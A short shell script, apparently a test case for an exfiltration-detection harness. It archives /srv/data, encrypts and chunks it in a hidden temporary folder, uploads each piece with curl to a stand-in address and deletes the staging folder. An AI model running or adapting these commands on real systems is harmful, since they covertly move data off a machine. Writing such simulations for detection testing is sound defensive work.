#!/bin/sh
. /opt/case/case.sh

head -c 50331648 /dev/urandom >/srv/data/base.img
mkdir /var/tmp/.p
tar -cf - /srv/data 2>/dev/null | openssl enc -aes-256-ctr -pbkdf2 -k bait | split -b 1m - /var/tmp/.p/x
for piece in /var/tmp/.p/*; do curl -s -T "$piece" -o /dev/null "http://203.0.113.10:8080/up/${piece##*/}"; done
rm -r /var/tmp/.p
took_place
